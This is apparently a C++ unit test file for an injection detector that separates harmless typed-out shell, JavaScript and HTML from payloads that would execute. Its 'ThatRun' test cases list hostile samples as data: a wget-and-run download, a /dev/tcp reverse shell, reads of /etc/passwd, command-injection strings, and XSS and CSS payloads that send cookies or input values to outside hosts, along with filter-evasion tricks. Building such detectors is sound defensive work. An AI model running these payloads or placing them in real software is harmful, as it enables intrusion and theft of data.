#include "structure/typed.h"

#include <cppunit/TestFixture.h>
#include <cppunit/extensions/HelperMacros.h>

#include <string_view>
#include <vector>
#include "structure/markup.h"
#include "structure/script.h"
#include "structure/shell.h"
#include "structure/windows_shell.h"
#include "unit/structure/detector_check.h"

namespace errwatch {
namespace {

class TypedTest : public CppUnit::TestFixture {
  CPPUNIT_TEST_SUITE(TypedTest);
  CPPUNIT_TEST(CommandLines);
  CPPUNIT_TEST(CommandLinesThatRun);
  CPPUNIT_TEST(Scripts);
  CPPUNIT_TEST(ScriptsThatRun);
  CPPUNIT_TEST(Markup);
  CPPUNIT_TEST(MarkupThatRuns);
  CPPUNIT_TEST_SUITE_END();

  static constexpr DetectorCheck kTypedShell{HasTypedShell, kTypedShellMarks};
  static constexpr DetectorCheck kTypedScript{HasTypedScript, kTypedScriptMarks};
  static constexpr DetectorCheck kTypedMarkup{HasTypedMarkup, kTypedMarkupMarks};

 public:
  void CommandLines() {
    const std::vector<std::string_view> typed = {
        "cat access.log | awk '{print $1}' | sort | uniq -c | sort -rn",
        "curl -fsSL https://get.example.org/install.sh | bash",
        "| ls -la | list files |",
        "Linux | ls -la | list",
        "index=web status=500 | stats count by host | sort -count",
        "0 3 * * 0 cd /home/me && ./backup.sh",
        "FROM node:18 RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*",
        "for f in *.jpg; do convert \"$f\" \"${f%.jpg}.png\"; done",
        "#!/bin/bash\nset -e\ncd /srv/app\ngit pull\nsystemctl restart app",
        "How do I list files?\nls -la\nThanks",
        "for %f in (*.txt) do type %f",
        "net stop wuauserv & net start wuauserv",
        "ipconfig /flushdns && ipconfig /renew",
        "Run powershell -ExecutionPolicy Bypass -File setup.ps1",
        "In bash, `$(date)` and back-ticks are the same",
    };
    kTypedShell.FindsAll(typed);
    DetectorCheck{HasShell, kShellMarks}.FindsNone(typed);
    DetectorCheck{HasWindowsShell, kWindowsShellMarks}.FindsNone(typed);
    kTypedShell.FindsNone({"npm ci", "Tea & cat food", "use `ls -l` to list", "x;id", "name;id;title"});
  }

  void CommandLinesThatRun() {
    DetectorCheck{HasShell, kShellMarks}.FindsAll({
        "cd /tmp; wget http://192.0.2.1/x; sh x",
        "ls; cat /etc/passwd",
        "bash -i >& /dev/tcp/a.example/99 0>&1",
        "echo aWQ= | base64 -d | bash",
        "echo 1;c''at x",
        "127.0.0.1; ls -la",
        "two words' ; ls -la; '",
    });
  }

  void Scripts() {
    const std::vector<std::string_view> typed = {
        "alert('x')",
        "alert(\"Hello, world!\")",
        "confirm(\"Sure?\")",
        "eval(x)",
        "eval()",
        "atob()",
        "window.name",
        "alert(",
        "document.cookie",
        "function greet(name) { alert(\"Hello \" + name); }",
        "setTimeout(function(){ alert(\"Hello\"); }, 3000);",
        "const res = await fetch(`https://api.example.org/items/${id}`);",
        "array['key'](x)",
        "<p>Type <code>alert(1)</code> in the console</p>",
    };
    kTypedScript.FindsAll(typed);
    DetectorCheck{HasScript, Marks(kJavaScriptMarks)}.FindsNone(typed);
    kTypedScript.FindsNone({"alert(s) sent", "f(x)", "console.log(1)", "alert(1)"});
  }

  void ScriptsThatRun() {
    DetectorCheck{HasScript, Marks(kJavaScriptMarks)}.FindsAll({
        "alert(1)",
        "alert(document.domain)",
        "eval(atob('eA=='))",
        "fetch('//x')",
        "import('//x/y.js')",
        "self['alert'](1)",
        "self[a='alert'](1)",
        "x['a'=='b'?'alert':0](1)",
        "x[y='constructor'](1)",
        "node['a'='b'][y='constructor'](1)",
        "x['al\\u0065rt'](1)",
        "[]['filter']['constructor']('alert(1)')()",
        "setTimeout('alert(1)')",
        "document.write('<img src=//x?'+document.cookie+'>')",
    });
  }

  void Markup() {
    const std::vector<std::string_view> typed = {
        "<script>",
        "<iframe>",
        "the `<script>` element",
        "(<svg>)",
        "Use `<script src=\"app.js\"></script>` at the end",
        "<iframe width=\"560\" height=\"315\" src=\"https://film.example/embed/x\" allowfullscreen></iframe>",
        "<blockquote class=\"x\"><a href=\"https://x.example/p\">x</a></blockquote><script async "
        "src=\"//x.example/embed.js\"></script>",
        "<style>p{color:red} .a{margin:0}</style>",
        "<a href=\"https://example.org\" onclick=\"return false\">x</a>",
        "<link rel=\"stylesheet\" href=\"https://example.org/a.css\">",
        "<form action=\"https://example.org/subscribe\" method=\"post\">",
        "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
        "<p>&lt;img src=x onerror=alert(1)&gt; is the classic example</p>",
        "<img src=\"a.png\" onerror=\"this.style.display='none'\">",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "List<Script> scripts; Map<Object, Style> x;",
    };
    kTypedMarkup.FindsAll(typed);
    DetectorCheck{HasMarkup, Marks(kMarkupMarks)}.FindsNone(typed);
    kTypedMarkup.FindsNone({"<b>x</b>", "<svg viewBox=\"0\"><style></style><path d=\"M0\"/></svg>",
                            "<div style=\"background:url(/a.png)\">x</div>", "<use xlink:href=\"#icon\"/>",
                            "<meta http-equiv=\"Content-Type\" content=\"text/html\">"});
  }

  void MarkupThatRuns() {
    DetectorCheck{HasMarkup, Marks(kMarkupMarks)}.FindsAll({
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<script>x",
        "<script src=//x></script>",
        "<iframe src=//x>",
        "<iframe width=\"0\" height=\"0\" src=\"https://x.example/\"></iframe>",
        "\"><script>",
        "<style>@import'//x'</style>",
        "<style>input[value^=a]{background:url(https://x.example/a)}</style>",
        "<meta http-equiv=refresh content=0;//x>",
        "<use xlink:href=//x/a.svg#b>",
        "<body onload=x>",
        "<p>&lt;b&gt;</p><script>alert(1)</script>",
        "\" onfocus=\\u0061lert(1) autofocus x=\"",
    });
  }
};

CPPUNIT_TEST_SUITE_REGISTRATION(TypedTest);

}  // namespace
}  // namespace errwatch
